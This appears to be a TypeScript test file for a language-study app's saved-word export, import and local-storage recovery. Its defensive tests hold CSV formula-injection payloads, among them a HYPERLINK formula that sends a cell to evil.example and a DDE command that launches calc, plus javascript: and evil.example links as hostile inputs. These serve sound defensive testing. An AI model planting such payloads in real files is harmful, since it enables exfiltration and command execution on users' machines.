import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  fromCsv,
  IMPORT_LIMITS,
  ImportError,
  markWord,
  mergeWords,
  neutraliseCell,
  persistStudyData,
  readStore,
  recoverStore,
  toAnki,
  toCsv,
  writeStore,
  type KeyValueStorage,
  type SavedWord,
} from '../../lib/study/saved-words';
import { emptyStudyData } from '../../lib/study/study-model';

const word = (overrides: Partial<SavedWord> = {}): SavedWord => ({
  word: 'đối tác',
  pos: 'noun',
  meaning: 'partner',
  han: '對作',
  sentenceVi: 'Hiệp ước về quan hệ Đối tác chiến lược toàn diện, "mới".',
  sentenceEn: 'The treaty, signed in Pyongyang,\nis "new".',
  article: 'nga-trieu',
  unit: 's4',
  link: '/en/articles/nga-trieu/#s4',
  savedAt: '2026-11-25T10:00:00.000Z',
  ...overrides,
});

test('CSV export reads back exactly, commas, quotes and line breaks included', () => {
  const words = [word(), word({ word: 'hiệp ước', han: '', unit: 's1', meaning: 'treaty, pact' })];
  assert.deepEqual(fromCsv(toCsv(words)), words);
  assert.deepEqual(fromCsv(`\uFEFF${toCsv(words)}`), words);
  assert.deepEqual(fromCsv(toCsv([])), []);
});

test('a malformed CSV is refused with the line at fault', () => {
  assert.throws(() => fromCsv('word,meaning\nx,y\n'), ImportError);
  const [header] = toCsv([]).split('\r\n');
  assert.throws(() => fromCsv(`${header}\r\nonly,three,fields\r\n`), /line 2 has 3 fields/);
  assert.throws(() => fromCsv(`${header}\r\n"unclosed`), /not closed/);
});

test('the store reads its own format, upgrades version 1 and reports damage without throwing', () => {
  assert.deepEqual(readStore(writeStore(emptyStudyData([word()]))), { status: 'ok', data: emptyStudyData([word()]) });
  assert.deepEqual(readStore(null), { status: 'empty', data: emptyStudyData() });
  assert.deepEqual(readStore('{not json'), { status: 'damaged', data: emptyStudyData() });
  assert.deepEqual(readStore('{"version":2,"words":[{"word":1}]}'), { status: 'damaged', data: emptyStudyData() });
  const old = JSON.stringify({ version: 1, words: [{ word: 'đối tác', meaning: 'partner', context: 'Đối tác.', link: '/vi/articles/nga-trieu/#s4', savedAt: 'x' }] });
  const migrated = readStore(old);
  assert.equal(migrated.status, 'migrated');
  assert.deepEqual(migrated.data.words[0], { word: 'đối tác', pos: '', meaning: 'partner', han: '', sentenceVi: 'Đối tác.', sentenceEn: '', article: 'nga-trieu', unit: 's4', link: '/vi/articles/nga-trieu/#s4', savedAt: 'x' });
});

test('import adds only what the list lacks', () => {
  const merged = mergeWords([word()], [word(), word({ unit: 's9' })]);
  assert.deepEqual(merged.map((item) => item.unit), ['s4', 's9']);
});

test('the Anki file has its headers and one note per word, the word marked in its sentence', () => {
  const lines = toAnki([word()], 'https://song-ngu.example').trimEnd().split('\n');
  assert.deepEqual(lines.slice(0, 4), ['#separator:tab', '#html:true', '#columns:Front\tBack', '#tags column:3']);
  const [front, back, tags] = (lines[4] ?? '').split('\t');
  assert.equal(front, 'đối tác');
  assert.ok(back?.includes('<b>Đối tác</b>'));
  assert.ok(back?.includes('對作'));
  assert.ok(back?.includes('href="https://song-ngu.example/en/articles/nga-trieu/#s4"'));
  assert.ok(!back?.includes('\n'));
  assert.equal(tags, 'song-ngu nga-trieu');
  assert.equal(markWord('a <b> c', 'x'), 'a &lt;b&gt; c');
});

// --- issue 19: client stores that never lie about a learner's data --------------------------------

test('CSV export neutralises formula cells (OWASP) and import reads every value back exactly', () => {
  const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTAB first', '\rCR first', "'=already quoted", "''+two quotes", "'plain apostrophe", 'plain'];
  const words = hostile.map((value, index) => word({ meaning: value, sentenceEn: value, unit: `s${index + 1}` }));
  const csv = toCsv(words);
  for (const line of csv.split('\r\n').slice(1, -1)) {
    // No cell of the file starts, for a spreadsheet, with a formula character.
    for (const cell of line.match(/"(?:[^"]|"")*"/g) ?? []) assert.doesNotMatch(cell.slice(1), /^[=+\-@\t\r]/, cell);
  }
  assert.match(csv, /"'=HYPERLINK\(""https:\/\/evil/);
  assert.deepEqual(fromCsv(csv), words);
  assert.equal(neutraliseCell('=1+1'), "'=1+1");
  assert.equal(neutraliseCell("it's"), "it's");
});

test('imported links must be sentences of this site; exports never carry another', () => {
  const [header] = toCsv([]).split('\r\n');
  const row = (link: string) => `${header}\r\n${toCsv([word()]).split('\r\n')[1]?.replace('"/en/articles/nga-trieu/#s4"', `"${link}"`)}\r\n`;
  assert.deepEqual(fromCsv(row('/vi/articles/nga-trieu/#s4'))[0]?.link, '/vi/articles/nga-trieu/#s4');
  for (const link of ['javascript:alert(1)', 'https://evil.example/en/articles/x/', '//evil.example/', '/en/words/', 'http://[']) {
    assert.throws(() => fromCsv(row(link)), /the link must be a sentence of this site/, link);
  }
  const bad = [word({ link: 'javascript:alert(1)' }), word({ link: 'http://[', unit: 's5' }), word({ link: 'https://evil.example/', unit: 's6' })];
  const anki = toAnki(bad, 'https://songngu.example');
  assert.doesNotMatch(anki, /href=|javascript:|evil\.example/);
  assert.doesNotMatch(toCsv(bad), /javascript:|evil\.example|http:\/\/\[/);
  assert.match(toAnki([word()], 'https://songngu.example'), /<a href="https:\/\/songngu\.example\/en\/articles\/nga-trieu\/#s4">/);
  assert.doesNotMatch(toAnki([word({ article: 'x\ty' })], 'https://songngu.example').split('\n')[4] ?? '', /x\ty/);
});

test('imports are capped with a message', () => {
  const many = Array.from({ length: IMPORT_LIMITS.words + 1 }, (_, index) => word({ unit: `s${index}` }));
  assert.throws(() => fromCsv(toCsv(many)), /the file has 5001 words, more than 5000; split it/);
  assert.throws(() => fromCsv(`${toCsv([])}${'x'.repeat(IMPORT_LIMITS.bytes)}`), /larger than 2 MB/);
});

/** localStorage as the tests need it: a quota in characters, like the browser's. */
function fakeStorage(quota: number, initial: Record<string, string> = {}): KeyValueStorage & { data: Map<string, string> } {
  const data = new Map(Object.entries(initial));
  return {
    data,
    getItem: (key) => data.get(key) ?? null,
    setItem: (key, value) => {
      const used = [...data].reduce((sum, [name, stored]) => sum + (name === key ? 0 : name.length + stored.length), 0);
      if (used + key.length + value.length > quota) throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
      data.set(key, value);
    },
  };
}

test('a full store is reported, never claimed as saved', () => {
  const storage = fakeStorage(200);
  const result = persistStudyData(storage, 'words', emptyStudyData([word(), word({ unit: 's9' })]), 'aside');
  assert.deepEqual(result, { ok: false, reason: 'quota' });
  assert.equal(storage.data.get('words'), undefined);
  assert.deepEqual(persistStudyData(fakeStorage(1e6), 'words', emptyStudyData([word()]), 'aside'), { ok: true });
});

test('a damaged store is kept before anything replaces it, or left untouched and offered for download', () => {
  const damaged = `{"version":2,"words":[${'x'.repeat(4 * 1024 * 1024)}`;
  // Room for a copy: it is set aside (and read back) before the list starts again empty.
  const roomy = fakeStorage(20e6, { words: damaged });
  assert.deepEqual(recoverStore(roomy, 'words', 'words:damaged:t'), { data: emptyStudyData(), notice: { kind: 'damaged', key: 'words:damaged:t' } });
  assert.equal(roomy.data.get('words:damaged:t'), damaged);
  assert.deepEqual(readStore(roomy.data.get('words') ?? null), { status: 'ok', data: emptyStudyData() });
  // No room for a copy (5 MB quota, a 4 MB store): nothing moves, the page gets the data to download,
  // and no later save writes over it.
  const full = fakeStorage(5 * 1024 * 1024, { words: damaged });
  const recovered = recoverStore(full, 'words', 'words:damaged:t');
  assert.equal(recovered.notice?.kind, 'damaged-not-kept');
  assert.equal(recovered.notice?.kind === 'damaged-not-kept' ? recovered.notice.raw : '', damaged);
  assert.equal(full.data.get('words:damaged:t'), undefined);
  assert.deepEqual(persistStudyData(full, 'words', emptyStudyData([word()]), 'words:damaged:t'), { ok: false, reason: 'damaged-not-kept' });
  assert.equal(full.data.get('words'), damaged);
});
